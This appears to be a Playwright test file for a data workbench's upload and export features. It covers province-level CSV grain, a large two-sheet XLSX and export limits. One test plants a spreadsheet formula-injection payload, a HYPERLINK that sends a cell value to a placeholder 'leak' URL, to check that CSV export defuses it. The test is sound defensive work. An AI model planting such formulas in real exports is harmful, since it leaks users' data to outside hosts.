/**
 * Issue 17 in the browser: a province × year file loads at its grain (the 合计 row reported, not
 * summed) and the cohort views say they cannot answer while the export says "your data" with
 * province names; a 100,000-row two-sheet workbook is read in the worker from its data sheet;
 * text exports are spreadsheet-safe unless raw; XLSX over its limit is refused before it starts;
 * a cancelled export saves nothing.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Download, Page } from '@playwright/test';
import { csvParseRows } from 'd3';
import { test, expect, waitForAnswers } from './fixtures';
import { makeXlsx } from '../fixtures/make-xlsx';

const REAL = resolve(import.meta.dirname, '../fixtures/real-world');

async function openWorkbench(page: Page, query = '') {
	await page.goto(`/data${query}`);
	// The prerendered page shows the count before the app starts; a file chosen then is lost.
	await waitForAnswers(page);
	await expect(page.getByTestId('browse-count')).toHaveAttribute('data-value', /^\d+$/);
}

async function downloads(page: Page, panel: string, format: string, n = 1): Promise<Download[]> {
	const got: Download[] = [];
	const listener = (d: Download) => got.push(d);
	page.on('download', listener);
	await page.locator(`[data-export="${panel}"] button[data-format="${format}"]`).click();
	await expect.poll(() => got.length, { timeout: 60_000 }).toBe(n);
	page.off('download', listener);
	return got;
}

const text = async (d: Download) =>
	new TextDecoder('utf-8', { ignoreBOM: true }).decode(readFileSync((await d.path())!));

test('province-level annual totals load at their grain; cohort views say why they cannot answer', async ({
	page
}) => {
	await openWorkbench(page);
	await page.getByTestId('upload-input').setInputFiles(join(REAL, 'province-annual.csv'));
	await expect(page.getByTestId('unit-note-value_cny')).toContainText('from the header: “亿元”');
	await page.getByRole('button', { name: 'Check the rows' }).click();
	await expect(page.getByTestId('check-grain')).toHaveAttribute('data-place', 'province');
	await expect(page.getByTestId('check-grain')).toHaveAttribute('data-time', 'year');
	await expect(page.locator('[data-testid="problems"] tr[data-code="total-row"]')).toHaveAttribute(
		'data-row',
		'14'
	);
	// Independent: the file's 12 province-year values in 亿元, summed here by hand, in yuan.
	const file = readFileSync(join(REAL, 'province-annual.csv'), 'utf8').trim().split('\n').slice(1);
	const expected = file
		.filter((l) => !l.startsWith('合计'))
		.reduce((s, l) => s + Number(l.split(',')[2]) * 1e8, 0);
	await page.getByTestId('load').click();
	await expect(page.getByTestId('upload-done')).toContainText('the table now has 12 rows');
	await expect(page.getByTestId('upload-done')).toContainText(
		`value_cny ${Math.round(expected).toLocaleString('en-US')}`
	);
	await expect(page.getByTestId('upload-done-grain')).toContainText('by province, annual');

	const [csv, sidecar] = await downloads(page, 'browse', 'csv', 2);
	const rows = csvParseRows((await text(csv!)).trim());
	const header = rows[0]!;
	const guangdong = rows.find((r) => r[header.indexOf('city_code')] === '440000')!;
	expect(guangdong[header.indexOf('province_en')]).toBe('Guangdong');
	expect(guangdong[header.indexOf('province_zh')]).toBe('广东');
	const p = JSON.parse(await text(sidecar!));
	expect(p.notice).toContain('Your data');
	expect(p.sampleInUse).toBe(false);
	expect(p.tables[0]).toMatchObject({ table: 'imports', source: 'yours' });

	await page.getByRole('link', { name: 'Timeline' }).click();
	const cannot = page.locator('[data-testid="grain-cannot"][data-view="timeline.series"]');
	await expect(cannot).toContainText('your imports are by province');
	await page.getByRole('link', { name: 'Categories' }).click();
	await expect(
		page.locator('[data-testid="grain-cannot"][data-view="categories.composition"]')
	).toBeVisible();
});

test('a 100,000-row workbook with a notes sheet first: read in the worker from its data sheet', async ({
	page
}) => {
	const dir = mkdtempSync(join(tmpdir(), 'pa-xlsx-'));
	const n = 100_000;
	let value = 0;
	const cities = [
		'120000',
		'310000',
		'330100',
		'330200',
		'350100',
		'350128',
		'410100',
		'440100',
		'440300',
		'500000',
		'340100',
		'510100',
		'210200',
		'370200',
		'320500',
		'110000'
	];
	const categories = ['beauty', 'food', 'infant', 'health', 'apparel'];
	const row = (i: number) => {
		const v = ((i * 37) % 5000) + 0.5;
		value += v;
		return [
			// 160 distinct keys a month (16 cities × 5 categories × 2 channels), 625 months.
			new Date(Date.UTC(2000 + Math.floor(i / 1920), Math.floor(i / 160) % 12, 1)),
			cities[i % 16]!,
			categories[Math.floor(i / 16) % 5]!,
			['1210', '9610'][Math.floor(i / 80) % 2]!,
			(i % 97) + 1,
			v
		];
	};
	const path = join(dir, 'book.xlsx');
	writeFileSync(
		path,
		makeXlsx([
			{ name: 'notes', rows: [['Notes: sample workbook'], ['Source: generated']] },
			{
				name: 'data',
				rows: {
					count: n + 1,
					row: (i) =>
						i === 0
							? ['month', 'city_code', 'category', 'channel', 'orders', 'value_cny']
							: row(i - 1)
				}
			}
		])
	);
	try {
		await openWorkbench(page);
		await page.getByTestId('upload-input').setInputFiles(path);
		await expect(page.getByTestId('upload-sheet')).toHaveAttribute('data-sheet', 'data', {
			timeout: 60_000
		});
		await expect(page.getByTestId('upload-sheet')).toContainText('2 sheets');
		await page.getByRole('button', { name: 'Check the rows' }).click();
		await expect(page.getByTestId('good-rows')).toHaveAttribute('data-value', String(n), {
			timeout: 60_000
		});
		await expect(page.getByTestId('validation')).toContainText(
			`value_cny ${Math.round(value).toLocaleString('en-US')}`
		);
	} finally {
		rmSync(dir, { recursive: true, force: true });
	}
});

async function runSql(page: Page, sql: string) {
	await openWorkbench(page, `?sql=${encodeURIComponent(sql)}`);
	await page.getByTestId('sql-run').click();
	await expect(page.getByTestId('sql-result-count')).toHaveAttribute('data-value', /^\d+$/, {
		timeout: 60_000
	});
}

test('a planted formula is defused in CSV; raw writes it as it is', async ({ page }) => {
	const formula = '=HYPERLINK("http://example.invalid/?leak="&A2,"click")';
	await runSql(page, `SELECT '${formula.replace(/'/g, "''")}' AS x, -5 AS n`);
	const [safe] = await downloads(page, 'sql', 'csv', 2);
	const safeRows = csvParseRows((await text(safe!)).trim());
	expect(safeRows[1]).toEqual([`'${formula}`, '-5']);
	await page.getByTestId('sql-console').getByTestId('export-raw').check();
	const [raw, sidecar] = await downloads(page, 'sql', 'csv', 2);
	expect(csvParseRows((await text(raw!)).trim())[1]).toEqual([formula, '-5']);
	expect(JSON.parse(await text(sidecar!)).textCells).toBe('raw');
});

test('XLSX over its row limit says so before it starts; a cancelled export saves nothing', async ({
	page
}) => {
	await runSql(page, 'SELECT i, i * 2 AS j, md5(i::VARCHAR) AS h FROM range(1100000) t(i)');
	let saved = 0;
	page.on('download', () => saved++);
	await page.locator('[data-export="sql"] button[data-format="xlsx"]').click();
	await expect(page.getByTestId('export-message')).toContainText(
		'XLSX holds at most 1,048,575 rows'
	);
	await page.locator('[data-export="sql"] button[data-format="json"]').click();
	await expect(page.getByTestId('export-progress')).toBeVisible();
	await page.getByTestId('export-cancel').click();
	await expect(page.getByTestId('export-message')).toContainText('nothing was saved');
	await page.waitForTimeout(500);
	expect(saved).toBe(0);
});
